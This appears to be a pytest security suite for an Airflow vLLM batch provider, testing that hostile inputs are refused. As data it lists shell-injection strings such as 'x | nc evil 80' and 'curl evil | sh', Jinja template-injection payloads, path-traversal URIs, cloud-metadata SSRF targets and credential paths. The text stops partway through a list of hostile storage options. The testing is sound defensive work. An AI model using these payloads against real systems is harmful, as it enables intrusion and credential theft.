"""Security: malicious params and paths are refused before any worker or pod spec exists.

Each case is tried at the edges a value crosses: ``JobSpec.from_params`` (the DAG params ->
spec step every task uses), the deployment check (allow-list), the plan operator (nothing
planned, no spec pushed for the shards), and the worker's CLI with a forged shard task
(exit 2 before it reads or writes anything). Free text is the exception by design: shell
metacharacters in a prompt are data and reach the engine verbatim, never a shell; Jinja
delimiters are refused everywhere. The real DAGs' Airflow param validation is exercised in
tests/airflow/test_security_dags.py.
"""

from __future__ import annotations

import ast
import itertools
import json
import logging
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from airflow_provider_vllm.core.allow_list import ALLOWED_PREFIXES_ENV, check_uri
from airflow_provider_vllm.core.errors import EXIT_TERMINAL, SpecError
from airflow_provider_vllm.core.param_schemas import validate_params
from airflow_provider_vllm.core.spec import JobSpec
from airflow_provider_vllm.core.spec_guard import MAX_LABELS, check_deployment
from tests.support.data import write_parquet
from tests.support.ledger import record_malicious

os.environ.setdefault("AIRFLOW_HOME", tempfile.mkdtemp(prefix="airflow-unit-"))
os.environ.setdefault("AIRFLOW__CORE__LOAD_EXAMPLES", "False")

pytestmark = pytest.mark.reliability
from tests.support import ROOT  # noqa: E402

A = "@ALLOWED@"  # replaced by the test's allowed local folder

MALICIOUS_URIS = {
    "dotdot": [
        f"{A}/in/../../etc",
        f"{A}/in/..",
        "s3://data/in/../secret",
        "s3://data/in/./x",
        f"file://{A}/in/../../root",
        "s3://data/in/sub/../../other",
    ],
    "encoded_dotdot": [
        "s3://data/in/%2e%2e/secret",
        "s3://data/in/%2E%2E%2Fsecret",
        "s3://data/in/%252e%252e/x",
        f"{A}/in/%2e%2e/x",
        "s3://data/in%2f..%2fother",
        "s3://data/in/..%5c..%5cx",
    ],
    "other_bucket": [
        "s3://data-other/in",
        "s3://dat/in",
        "gs://data/in",
        "s3://evil/in",
        "s3a://data/in-x/y",
        "s3://DATA/in",
    ],
    "file_trick": [
        "file:///etc/passwd",
        "file://attacker.example/share/in",
        "file:/etc/passwd",
        "/etc/passwd",
        f"file:{A}/in",
        "file://localhost/etc",
        f"{A}-sibling/in",
        "/",
    ],
    "unknown_scheme": [
        "http://169.254.169.254/latest/meta-data",
        "ftp://x/in",
        "hdfs://nn/in",
        "zip::s3://data/in/a.zip",
        "simplecache::s3://data/in",
        "sftp://host/in",
        "relative/in",
        "~/in",
        "C:\\data\\in",
        "data:text/plain,x",
        "in\x00/x",
        " /tmp/x",
    ],
}
SHELL = [
    "x; rm -rf /",
    "$(id)",
    "`id`",
    "x | nc evil 80",
    "x && curl evil",
    "x > /etc/passwd",
    "${HOME}",
    "x\nid",
    "'; DROP TABLE t; --",
]
JINJA = [
    "{{ 7*7 }}",
    "{% import os %}",
    "{# c #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "x {{config}}",
    "{%raw%}x{%endraw%}",
]
IDENTIFIER_FIELDS = [
    "name",
    "model.name",
    "model.revision",
    "model.tokenizer_revision",
    "model.tokenizer",
    "model.quantization",
    "prompt.id_column",
    "prompt.text_columns",
    "sampling.structured.choice",
    "engine.engine_kwargs.tokenizer_mode",
    "io.storage_options.endpoint_url",
    "qa.previous_report_uri",
    "io.input_uri",
    "io.output_uri",
]
FREE_TEXT_FIELDS = ["prompt.system_prompt", "prompt.template", "sampling.stop", "sampling.structured.regex"]


@pytest.fixture
def allowed(tmp_path):
    base = tmp_path / "allowed"
    write_parquet(base / "in" / "part-0.parquet", ["a", "b", "c"], ["one", "two", "three"])
    (tmp_path / "allowed-sibling" / "in").mkdir(parents=True)
    return base


def base_doc(allowed: Path) -> dict:
    return {
        "name": "sec",
        "model": {"name": "fake", "max_model_len": 256},
        "io": {"input_uri": str(allowed / "in"), "output_uri": str(allowed / "out")},
        "prompt": {"template": "Ticket: {text}", "system_prompt": "Classify."},
        "sampling": {"max_tokens": 4, "structured": {"choice": ["a", "b"]}},
        "sharding": {"target_rows": 10, "chunk_rows": 2},
    }


def prefixes(allowed: Path) -> list[str]:
    return [str(allowed), "s3://data/in", "s3://data/out"]


def refused(doc: dict, allowed_prefixes: list[str]) -> str | None:
    """The refusal message, or None when the spec would be accepted."""
    try:
        spec = JobSpec.load(doc)
        check_deployment(spec, allowed_prefixes)
    except SpecError as e:
        return str(e)
    return None


def with_value(doc: dict, field: str, value):
    doc = json.loads(json.dumps(doc))
    *parents, leaf = field.split(".")
    node = doc
    for p in parents:
        node = node.setdefault(p, {})
    if field in ("prompt.text_columns", "sampling.structured.choice", "sampling.stop"):
        value = [value, "b"] if field == "sampling.structured.choice" else [value]
    if field == "prompt.template":
        value = "Ticket: {text} " + value
    if field == "sampling.structured.regex":
        doc["sampling"]["structured"] = {}
        node = doc["sampling"]["structured"]
    node[leaf] = value
    return doc


# ---- paths ----------------------------------------------------------------------------
@pytest.mark.parametrize("kind", sorted(MALICIOUS_URIS))
def test_malicious_uris_are_refused(allowed, kind):
    tried = rejected = 0
    for raw in MALICIOUS_URIS[kind]:
        uri = raw.replace(A, str(allowed))
        for field in ("io.input_uri", "io.output_uri"):
            tried += 1
            msg = refused(with_value(base_doc(allowed), field, uri), prefixes(allowed))
            if msg is not None:
                rejected += 1
                assert field in msg or "uri" in msg, msg  # the message names the parameter
            else:
                print(f"ACCEPTED {field}={uri!r}")
    record_malicious(f"uri_{kind}", tried, rejected)
    assert rejected == tried


def test_allowed_uris_pass_and_prefixes_match_whole_segments(allowed):
    assert refused(base_doc(allowed), prefixes(allowed)) is None
    ok = with_value(
        with_value(base_doc(allowed), "io.input_uri", "s3://data/in/dt=2026-11-29/"),
        "io.output_uri",
        "s3://data/out/run-1",
    )
    assert refused(ok, prefixes(allowed)) is None
    assert check_uri("file://" + str(allowed / "in"), prefixes(allowed)) == str(allowed / "in")
    with pytest.raises(SpecError, match="outside the allowed prefixes"):
        check_uri("s3://data/input", ["s3://data/in"])  # 'in' is not a prefix of 'input'


def test_symlinks_cannot_lead_out_of_the_allowed_prefix(allowed, tmp_path):
    outside = tmp_path / "secret"
    write_parquet(outside / "x.parquet", ["s"], ["secret"])
    (allowed / "link").symlink_to(outside)
    (allowed / "in" / "leak.parquet").symlink_to(outside / "x.parquet")
    tried = 0
    for field, uri in (("io.input_uri", allowed / "link"), ("io.output_uri", allowed / "link" / "out")):
        tried += 1
        assert "outside the allowed prefixes" in refused(
            with_value(base_doc(allowed), field, str(uri)), prefixes(allowed)
        )
    tried += 1  # a symlinked file inside an allowed input folder
    assert "is a symlink to" in refused(base_doc(allowed), prefixes(allowed))
    record_malicious("uri_symlink_escape", tried, tried)


def test_overlapping_input_and_output_and_credentials_in_the_spec_are_refused(allowed):
    doc = with_value(base_doc(allowed), "io.output_uri", str(allowed / "in" / "out"))
    assert "overlap" in refused(doc, prefixes(allowed))
    secret = "AKIA-SENTINEL-9f8e7d"
    for key in ("key", "secret", "token", "aws_secret_access_key", "session_token"):
        doc = with_value(base_doc(allowed), f"io.storage_options.{key}", secret)
        msg = refused(doc, prefixes(allowed))
        assert msg is not None and "credentials" in msg and secret not in msg
    record_malicious("credentials_in_spec", 5, 5)


# ---- string params --------------------------------------------------------------------
@pytest.mark.parametrize("field", IDENTIFIER_FIELDS)
def test_shell_and_jinja_payloads_in_identifier_params_are_refused(allowed, field):
    tried = rejected = 0
    for payload in SHELL + JINJA:
        tried += 1
        if refused(with_value(base_doc(allowed), field, payload), prefixes(allowed)) is not None:
            rejected += 1
        else:
            print(f"ACCEPTED {field}={payload!r}")
    record_malicious(f"payload_{field}", tried, rejected)
    assert rejected == tried


@pytest.mark.parametrize("field", FREE_TEXT_FIELDS)
def test_jinja_in_free_text_is_refused_shell_text_is_kept_as_data(allowed, field):
    tried = rejected = 0
    for payload in JINJA:
        tried += 1
        msg = refused(with_value(base_doc(allowed), field, payload), prefixes(allowed))
        rejected += msg is not None
    record_malicious(f"jinja_{field}", tried, rejected)
    assert rejected == tried
    for payload in SHELL:  # accepted: data for the tokenizer, proven verbatim below
        doc = with_value(base_doc(allowed), field, payload)
        if field == "sampling.structured.regex" and payload == "${HOME}":
            continue
        assert refused(doc, prefixes(allowed)) is None, (field, payload)


def test_oversized_params_are_refused(allowed):
    cases = {
        "labels": with_value(base_doc(allowed), "sampling.structured.choice", "x"),
        "label": with_value(base_doc(allowed), "sampling.structured.choice", "y" * 101),
        "system_prompt": with_value(base_doc(allowed), "prompt.system_prompt", "z" * 70_000),
        "model": with_value(base_doc(allowed), "model.name", "m" * 5000),
        "stop": with_value(base_doc(allowed), "sampling.stop", "s"),
        "uri": with_value(base_doc(allowed), "io.input_uri", str(allowed / "in") + "/" + "d" * 5000),
    }
    cases["labels"]["sampling"]["structured"]["choice"] = [f"label{i}" for i in range(MAX_LABELS + 1)]
    cases["stop"]["sampling"]["stop"] = [f"s{i}" for i in range(50)]
    results = {k: refused(d, prefixes(allowed)) for k, d in cases.items()}
    record_malicious("oversized", len(cases), sum(v is not None for v in results.values()))
    assert all(results.values()), {k: v for k, v in results.items() if v is None}
    assert f"at most {MAX_LABELS}" in results["labels"]


def test_from_params_refuses_the_forms_payloads(allowed):
    """The trigger-form path: flat params over the DAG's base spec."""
    bad = [
        {"input_uri": "s3://data/in/%2e%2e/x"},
        {"model": "m; curl evil | sh"},
        {"labels": ["ok", "{{ 7*7 }}"]},
        {"system_prompt": "{% for x in range(10**9) %}{% endfor %}"},
        {"template": "{text.__class__}"},
        {"id_column": "id; DROP"},
        {"output_uri": "file://evil/x"},
        {"labels": [f"l{i}" for i in range(300)]},
        {"compare_with": "http://169.254.169.254/latest/"},
        {"compare_with": "s3://data/out/%2e%2e/x"},
    ]
    n = 0
    for params in bad:
        with pytest.raises(SpecError):
            JobSpec.from_params(params, base=base_doc(allowed))
        n += 1
    record_malicious("from_params", len(bad), n)
    # the form's schema refuses them too, before a run exists; a good one becomes changes.previous_uri
    for value in ("http://169.254.169.254/latest/", "s3://data/out/%2e%2e/x", "relative/out", "/a/{{ ds }}/"):
        with pytest.raises(SpecError, match="param compare_with"):
            validate_params({"compare_with": value})
    spec = JobSpec.from_params({"compare_with": str(allowed / "out" / "dt=1") + "/"}, base=base_doc(allowed))
    assert spec.changes.previous_uri == str(allowed / "out" / "dt=1") + "/"


# ---- verbatim to the engine, never a shell --------------------------------------------
def test_shell_text_reaches_the_engine_verbatim(allowed, tmp_path, fake_engine_factory):
    from airflow_provider_vllm.steps.plan.planner import plan_job
    from airflow_provider_vllm.worker.shard import run_shard
    from airflow_provider_vllm.worker.task import ShardTask, worker_command
    from tests.support.fakes import FakeTokenizer

    canary = tmp_path / "pwned"
    payload = f"; touch {canary} $(touch {canary}) `touch {canary}` | sh && echo 'x' \"y\""
    write_parquet(allowed / "in2" / "p.parquet", ["r1"], [f"row text {payload}"])
    doc = base_doc(allowed)
    doc["io"] = {"input_uri": str(allowed / "in2"), "output_uri": str(allowed / "out2")}
    doc["prompt"]["system_prompt"] = f"System {payload}"
    doc["prompt"]["template"] = "Ticket: {text} " + payload
    doc["model"]["max_model_len"] = 4096
    spec = JobSpec.load(doc)
    plan = plan_job(spec)
    seen = []
    factory_engine = fake_engine_factory

    def recording(s):
        e = factory_engine(s)
        orig = e.submit

        def submit(key, ids, overrides=None):
            seen.append(FakeTokenizer().decode(ids))
            return orig(key, ids, overrides)

        e.submit = submit
        return e

    task = ShardTask(spec=spec, shard_id=plan.shards[0].shard_id)
    assert run_shard(task, engine_factory=recording)["ok_rows"] == 1
    assert seen == [f"<system>System {payload}\n<user>Ticket: row text {payload} {payload}\n<assistant>"]
    argv = worker_command(task)
    assert argv[1:3] == ["-m", "airflow_provider_vllm.worker"] and len(argv) == 4
    assert json.loads(argv[3])["spec"]["prompt"]["system_prompt"] == f"System {payload}"
    assert not canary.exists()


def _calls(tree: ast.AST):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            f = node.func
            name = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else ""
            owner = f.value.id if isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) else ""
            yield node, owner, name


def test_audit_no_shell_no_eval_no_second_template_render():
    """AST audit of the package and the DAGs: subprocesses get argv lists, never a shell."""
    files = sorted((ROOT / "airflow_provider_vllm").rglob("*.py")) + sorted((ROOT / "dags").glob("*.py"))
    problems = []
    for path in files:
        tree = ast.parse(path.read_text(), str(path))
        for node in ast.walk(tree):
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                mods = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
                if (
                    isinstance(node, ast.ImportFrom)
                    and node.module == "jinja2"
                    and [a.name for a in node.names] == ["meta"]
                ):
                    continue  # utils/provenance.py: static analysis of templates (parse, never render)
                if any(m.split(".")[0] in ("jinja2", "commands", "pty") for m in mods):
                    problems.append(f"{path.name}:{node.lineno} imports {mods}")
        for node, owner, name in _calls(tree):
            where = f"{path.relative_to(ROOT)}:{node.lineno}"
            if any(
                k.arg == "shell" and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                for k in node.keywords
            ):
                problems.append(f"{where} shell=")
            if owner == "os" and (name in ("system", "popen") or name.startswith(("exec", "spawn"))):
                problems.append(f"{where} os.{name}")
            if owner == "subprocess" and name in ("getoutput", "getstatusoutput"):
                problems.append(f"{where} subprocess.{name}")
            if (
                owner == "subprocess"
                and name in ("run", "Popen", "call", "check_call", "check_output")
                and node.args
                and isinstance(node.args[0], (ast.Constant, ast.JoinedStr, ast.BinOp))
            ):
                problems.append(f"{where} subprocess.{name} with a string command")
            if isinstance(node.func, ast.Name) and name in ("eval", "exec", "compile", "__import__"):
                problems.append(f"{where} {name}()")
            if name in ("from_string", "render_template", "render_template_as_native", "Template"):
                problems.append(f"{where} {name}()")
    assert problems == []
    # the one process launch in the package takes argv from worker_command (a list)
    src = (ROOT / "airflow_provider_vllm" / "utils" / "worker_process.py").read_text()
    assert "subprocess.Popen(\n            self.argv," in src


# ---- forged shard tasks at the worker -------------------------------------------------
def test_worker_refuses_forged_shard_tasks(allowed, tmp_path):
    from airflow_provider_vllm.steps.plan.planner import plan_job
    from airflow_provider_vllm.worker.task import ShardTask

    spec = JobSpec.load(base_doc(allowed))
    plan = plan_job(spec)
    shard_id = plan.shards[0].shard_id
    good = ShardTask(spec=spec, shard_id=shard_id).model_dump(mode="json")
    elsewhere = tmp_path / "elsewhere"
    forged = {
        "output outside the allow-list": ("io", "output_uri", str(elsewhere / "out"), "outside the allowed"),
        "input outside the allow-list": ("io", "input_uri", str(elsewhere), "outside the allowed"),
        "another spec on the planned prefix": ("prompt", "template", "Other: {text}", "made for another spec"),
        "jinja in the model": ("model", "name", "{{ 7*7 }}", "model.name"),
        "shell in a label": ("sampling", "structured", {"choice": ["a", "b; id"]}, "choice"),
        "history outside the allow-list": ("sharding", "history_uri", str(elsewhere / "h"), "sharding.history_uri"),
        "model path outside the allow-list": ("model", "name", str(elsewhere / "model"), "model.name"),
        "endpoint in storage options": (
            "io",
            "storage_options",
            {"endpoint_url": "http://127.0.0.1:9"},
            "io.storage_options.endpoint_url",
        ),
        "trust_remote_code": ("model", "trust_remote_code", True, "model.trust_remote_code"),
        "code-loading compilation backend": (
            "engine",
            "engine_kwargs",
            {"compilation_config": {"backend": "evil.module.fn"}},
            "compilation_config.backend",
        ),
    }
    env = {**os.environ, ALLOWED_PREFIXES_ENV: json.dumps(prefixes(allowed)), "PYTHONPATH": str(ROOT)}
    n = 0
    for name, (section, key, value, message) in forged.items():
        task = json.loads(json.dumps(good))
        task["spec"][section][key] = value
        p = subprocess.run(
            [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert p.returncode == EXIT_TERMINAL, (name, p.stderr[-2000:])
        manifest = json.loads(p.stdout.strip().splitlines()[-1])
        assert manifest["terminal"] is True and message in manifest["message"], (name, manifest)
        n += 1
    assert not elsewhere.exists()  # nothing read or written outside
    assert not (allowed / "out" / "shards").exists()  # no chunk, no marker
    # the allow-list cannot be widened through the task: it is not a field of ShardTask
    task = json.loads(json.dumps(good))
    task["allowed_prefixes"] = ["/"]
    p = subprocess.run(
        [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert p.returncode == EXIT_TERMINAL and "allowed_prefixes" in p.stdout
    record_malicious("forged_shard_task", n + 1, n + 1)


# ---- the plan operator: refused before any shard spec exists ---------------------------
def test_plan_operator_refuses_before_planning(allowed, monkeypatch):
    from airflow.sdk.exceptions import AirflowFailException

    from airflow_provider_vllm.operators import VllmPlanOperator

    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", ",".join(prefixes(allowed)))
    cases = {
        "input_uri": ["s3://other/in", str(allowed / "in") + "/../../x", "file:///etc"],
        "output_uri": ["s3://data-other/out", "/tmp/elsewhere", "http://x/y"],
        "model": ["$(id)", "{{ 7*7 }}"],
        "labels": [["ok", "x`id`"], [f"l{i}" for i in range(300)]],
        "system_prompt": ["{# x #} hi"],
    }
    n = tried = 0
    for param, values in cases.items():
        for value in values:
            tried += 1
            ti = type(
                "TI",
                (),
                {
                    "xcoms": {},
                    "xcom_push": lambda self, key, value: self.xcoms.update({key: value}),
                    "map_index": -1,
                    "try_number": 1,
                },
            )()
            op = VllmPlanOperator(task_id="plan", spec=base_doc(allowed), param_overrides=[param])
            with pytest.raises(AirflowFailException):
                op.execute({"ti": ti, "params": {param: value}})
            assert ti.xcoms == {}  # no spec for any shard task
            assert not (allowed / "out" / "_plan.json").exists()
            n += 1
    record_malicious("plan_operator", tried, n)
    # and the valid spec plans under the same deployment setting
    ti = type("TI", (), {"xcoms": {}, "xcom_push": lambda self, key, value: self.xcoms.update({key: value})})()
    assert VllmPlanOperator(task_id="plan", spec=base_doc(allowed)).execute({"ti": ti, "params": {}})


def test_non_empty_foreign_output_prefix_is_refused(allowed):
    from airflow_provider_vllm.steps.plan.planner import plan_job

    (allowed / "out").mkdir()
    (allowed / "out" / "someone-elses.parquet").write_bytes(b"PAR1")
    with pytest.raises(SpecError, match="not empty"):
        plan_job(JobSpec.load(base_doc(allowed)))
    assert not (allowed / "out" / "_plan.json").exists()


# ---- secrets never logged ---------------------------------------------------------------
def test_worker_log_redacts_secret_environment_values(tmp_path):
    from airflow_provider_vllm.worker.redact import RedactSecrets, secret_values

    env = {
        "HF_TOKEN": "hf_SENTINEL_abc123",
        "AWS_SECRET_ACCESS_KEY": "aws-SENTINEL-xyz789",
        "HOME": "/root",
        "SHORT_TOKEN": "abc",
    }
    assert secret_values(env) == sorted(["hf_SENTINEL_abc123", "aws-SENTINEL-xyz789"], key=len, reverse=True)
    records = []
    handler = logging.Handler()
    handler.emit = lambda r: records.append(logging.Formatter("%(message)s").format(r))
    handler.addFilter(RedactSecrets(secret_values(env)))
    log = logging.getLogger("test.redact")
    log.addHandler(handler)
    log.propagate = False
    try:
        log.error("token %s and key %s", "hf_SENTINEL_abc123", "aws-SENTINEL-xyz789")
        try:
            raise RuntimeError("boom aws-SENTINEL-xyz789")
        except RuntimeError:
            log.exception("failed")
    finally:
        log.removeHandler(handler)
    text = "\n".join(records)
    assert "SENTINEL" not in text and text.count("***") >= 3


def test_worker_cli_never_prints_a_secret_from_its_environment(allowed):
    """A secret pasted into a param by mistake: the refusal names the field, the secret is masked."""
    token = "hf_SENTINELpastedQ8z2"
    doc = base_doc(allowed)
    task = {"spec": doc, "shard_id": "shard-00000-0123abcd"}
    task["spec"]["model"]["name"] = f"org/model;{token}"
    env = {**os.environ, "HF_TOKEN": token, "PYTHONPATH": str(ROOT)}
    p = subprocess.run(
        [sys.executable, "-m", "airflow_provider_vllm.worker", json.dumps(task)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert p.returncode == EXIT_TERMINAL
    assert "model.name" in p.stdout + p.stderr and "***" in p.stderr
    assert token not in p.stdout + p.stderr
    record_malicious("secret_in_param_logged", 1, 1)


def test_shard_operator_refuses_a_forged_spec_before_starting_a_worker(allowed, tmp_path, monkeypatch):
    """A spec tampered with in XCom: the shard task checks it against the deployment itself."""
    from airflow.sdk.exceptions import AirflowFailException

    from airflow_provider_vllm.operators import VllmLocalShardOperator

    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
    forged = base_doc(allowed)
    forged["io"]["output_uri"] = str(tmp_path / "elsewhere")
    launched = tmp_path / "launched"
    python = tmp_path / "python"  # would leave a trace if the operator started it
    python.write_text(f"#!/bin/sh\ntouch {launched}\n")
    python.chmod(0o755)
    ti = type("TI", (), {"map_index": 0, "try_number": 1})()
    op = VllmLocalShardOperator(
        task_id="shard", spec=forged, shard={"shard_id": "shard-00000-0123abcd", "rows": 3}, python=str(python)
    )
    with pytest.raises(AirflowFailException, match="outside the allowed prefixes"):
        op.execute({"ti": ti})
    assert not launched.exists() and not (tmp_path / "elsewhere").exists()
    record_malicious("forged_spec_at_shard_operator", 1, 1)


def test_shard_operator_hands_the_deployment_allow_list_to_the_worker(allowed, tmp_path, monkeypatch):
    """The worker's allow-list comes from the deployment; the task's ``env`` cannot widen it."""
    from airflow.sdk.exceptions import AirflowException

    from airflow_provider_vllm.operators import VllmLocalShardOperator

    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", json.dumps(prefixes(allowed)))
    dump = tmp_path / "env.json"
    python = tmp_path / "python"
    python.write_text(f"#!{sys.executable}\nimport json, os\njson.dump(dict(os.environ), open({str(dump)!r}, 'w'))\n")
    python.chmod(0o755)
    ti = type("TI", (), {"map_index": 0, "try_number": 1})()
    op = VllmLocalShardOperator(
        task_id="shard",
        spec=base_doc(allowed),
        python=str(python),
        shard={"shard_id": "shard-00000-0123abcd", "rows": 3},
        env={ALLOWED_PREFIXES_ENV: '["/"]'},
    )
    with pytest.raises(AirflowException):  # the stand-in prints no manifest
        op.execute({"ti": ti})
    seen = json.loads(dump.read_text())
    assert json.loads(seen[ALLOWED_PREFIXES_ENV]) == prefixes(allowed)


def test_allow_list_is_deployment_config_only(monkeypatch, tmp_path, fail_closed):
    from airflow.sdk.exceptions import AirflowFailException

    from airflow_provider_vllm.utils.deployment import allowed_prefixes

    monkeypatch.setenv("AIRFLOW_VAR_VLLM_BATCH_ALLOWED_PREFIXES", '["/"]')  # a Variable is not the deployment
    assert allowed_prefixes() == []
    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", f"s3://from-config/, {tmp_path}")
    assert allowed_prefixes() == ["s3://from-config", str(tmp_path)]
    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES", "s3://ok/,ftp://bad/")
    with pytest.raises(AirflowFailException, match="malformed"):
        allowed_prefixes()


# ---- fail closed: the deployment's allow-list (issue 12) ------------------------------
def _ti():
    return type(
        "TI",
        (),
        {
            "xcoms": {},
            "xcom_push": lambda self, key, value: self.xcoms.update({key: value}),
            "map_index": 0,
            "try_number": 1,
        },
    )()


def test_no_allow_list_refuses_every_task_naming_the_setting(allowed, tmp_path, monkeypatch, fail_closed):
    """The default deployment (nothing configured): plan, shard, merge, QA and publish refuse; nothing is touched."""
    from airflow.sdk.exceptions import AirflowFailException

    from airflow_provider_vllm.operators import (
        VllmLocalShardOperator,
        VllmMergeOperator,
        VllmPlanOperator,
        VllmPublishOperator,
        VllmQAOperator,
    )

    launched = tmp_path / "launched"
    python = tmp_path / "python"
    python.write_text(f"#!/bin/sh\ntouch {launched}\n")
    python.chmod(0o755)
    doc = base_doc(allowed)
    shard = {"shard_id": "shard-00000-0123abcd", "rows": 3}
    ops = [
        VllmPlanOperator(task_id="plan", spec=doc),
        VllmLocalShardOperator(task_id="shard", spec=doc, shard=shard, python=str(python)),
        VllmMergeOperator(task_id="merge", spec=doc),
        VllmQAOperator(task_id="qa", spec=doc),
        VllmPublishOperator(task_id="publish", spec=doc),
    ]
    for op in ops:
        ti = _ti()
        with pytest.raises(AirflowFailException) as e:
            op.execute({"ti": ti, "params": {}})
        msg = str(e.value)
        assert "[vllm_batch] allowed_uri_prefixes" in msg and "AIRFLOW__VLLM_BATCH__ALLOWED_URI_PREFIXES" in msg, msg
        assert "allow_any_location" in msg and ti.xcoms == {}
    assert not launched.exists() and not (allowed / "out").exists()
    record_malicious("no_allow_list_every_task", len(ops), len(ops))
    # a Variable cannot open it (only the deployment config can) ...
    monkeypatch.setenv("AIRFLOW_VAR_VLLM_BATCH_ALLOWED_PREFIXES", json.dumps(["/"]))
    with pytest.raises(AirflowFailException, match="allowed_uri_prefixes"):
        VllmPlanOperator(task_id="plan", spec=doc).execute({"ti": _ti(), "params": {}})
    # ... an explicit allow_any_location = True does; so does an allow-list
    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOW_ANY_LOCATION", "True")
    assert VllmPlanOperator(task_id="plan", spec=doc).execute({"ti": _ti(), "params": {}})
    monkeypatch.setenv("AIRFLOW__VLLM_BATCH__ALLOW_ANY_LOCATION", "sure")  # a typo is not a yes
    with pytest.raises(AirflowFailException, match="not a boolean"):
        VllmPlanOperator(task_id="plan", spec=doc).execute({"ti": _ti(), "params": {}})


def test_worker_without_an_allow_list_from_airflow_refuses(allowed, tmp_path):
    from airflow_provider_vllm.steps.plan.planner import plan_job
    from airflow_provider_vllm.worker.task import ShardTask

    spec = JobSpec.load(base_doc(allowed))
    plan = plan_job(spec)
    task = ShardTask(spec=spec, shard_id=plan.shards[0].shard_id).model_dump_json()
    env = {k: v for k, v in os.environ.items() if not k.startswith("VLLM_BATCH_ALLOW")}
    env["PYTHONPATH"] = str(ROOT)
    for extra in ({}, {"VLLM_BATCH_ALLOWED_PREFIXES": "[]"}, {"VLLM_BATCH_ALLOW_ANY_LOCATION": "0"}):
        p = subprocess.run(
            [sys.executable, "-m", "airflow_provider_vllm.worker", task],
            env={**env, **extra},
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert p.returncode == EXIT_TERMINAL, p.stderr[-2000:]
        manifest = json.loads(p.stdout.strip().splitlines()[-1])
        assert "VLLM_BATCH_ALLOWED_PREFIXES" in manifest["message"] and manifest["terminal"] is True
    assert not (allowed / "out" / "shards").exists()
    record_malicious("worker_without_allow_list", 3, 3)


HOSTILE_LOCATIONS = [
    "s3://evil/x",
    "s3://data-other/in",
    "http://169.254.169.254/latest/meta-data",
    "https://evil.example/x",
    "s3://user:pass@data/in",
    "s3://data/in/../../other",
    f"{A}/in/../../etc",
    "/etc",
    "file:///root/.aws",
    "ftp://evil/x",
    f"{A}-sibling/in",
]
LOCATION_FIELDS = {
    "sharding.history_uri": "",
    "qa.previous_report_uri": "/qa/report.json",
    "model.name": "",
    "model.tokenizer": "",
    "changes.previous_uri": "/",
}
RELATIVE_MODEL_PATHS = [".cache/models/x", "./models/x", "~/models/x", "a/b/c", "../models/x"]


@pytest.mark.parametrize("field", sorted(LOCATION_FIELDS))
def test_every_location_field_is_held_to_the_allow_list(allowed, field):
    values = [v.replace(A, str(allowed)) + LOCATION_FIELDS[field] for v in HOSTILE_LOCATIONS]
    if field.startswith("model."):
        values += RELATIVE_MODEL_PATHS
    tried = rejected = 0
    for value in values:
        tried += 1
        msg = refused(with_value(base_doc(allowed), field, value), prefixes(allowed))
        if msg is not None and field in msg:
            rejected += 1
        else:
            print(f"ACCEPTED or unnamed {field}={value!r}: {msg}")
    record_malicious(f"location_{field}", tried, rejected)
    assert rejected == tried
    # inside the allow-list they pass (a hub id is no location)
    ok = {
        "sharding.history_uri": str(allowed / "history"),
        "qa.previous_report_uri": str(allowed / "r.json"),
        "model.name": str(allowed / "model"),
        "model.tokenizer": "org/name",
        "changes.previous_uri": str(allowed / "out" / "dt=2026-11-29") + "/",
    }[field]
    assert refused(with_value(base_doc(allowed), field, ok), prefixes(allowed)) is None


HOSTILE_STORAGE_OPTIONS = [
    {"endpoint_url": "http://127.0.0.1:9000"},
    {"client_kwargs": {"endpoint_url": "http://169.254.169.254"}},
    {"client_kwargs": {"region_name": "us-east-1", "endpoint_url": "http://evil"}},
    {"endpoint": "evil:80"},
    {"host": "evil.example"},
    {"port": 8080},
    {"proxy": "http://proxy.evil:3128"},
    {"config_kwargs": {"proxies": {"https": "http://proxy.evil"}}},
    {"client_kwargs": {"headers": {"Metadata-Flavor": "Google"}}},
    {"headers": {"X-aws-ec2-metadata-token": "x"}},
    {"anon": "http://user:pass@evil/"},
    {"client_kwargs": {"region_name": "user:pass@evil"}},
    {"profile": "admin"},
    {"use_ssl": False},
    {"config_kwargs": {"signature_version": "UNSIGNED"}},
    {"s3_additional_kwargs": {"SSECustomerKey": "k"}},
    {"client_kwargs": {"aws_session_token": "t"}},
    {"key": "AKIA"},
    {"token": "ya29.x"},
    {"session": "x"},
    {"config_kwargs": {"retries": {"mode": "x", "url": "y"}}},
]
# Access control, identity and billing of objects: the deployment's (bucket policy, Object Ownership,
# default encryption, FSSPEC_S3_* / FSSPEC_GCS_* in the worker's environment), never a job's.
HOSTILE_ACCESS_OPTIONS = [
    {"s3_additional_kwargs": {"ACL": "public-read"}},
    {"s3_additional_kwargs": {"ACL": "bucket-owner-full-control"}},
    {"s3_additional_kwargs": {"acl": "public-read-write"}},
    {"s3_additional_kwargs": {"GrantRead": "uri=http://acs.amazonaws.com/groups/global/AllUsers"}},
    {"s3_additional_kwargs": {"GrantRead": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"GrantFullControl": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"GrantReadACP": "id=0123456789abcdef"}},
    {"s3_additional_kwargs": {"GrantWriteACP": "id=0123456789abcdef"}},
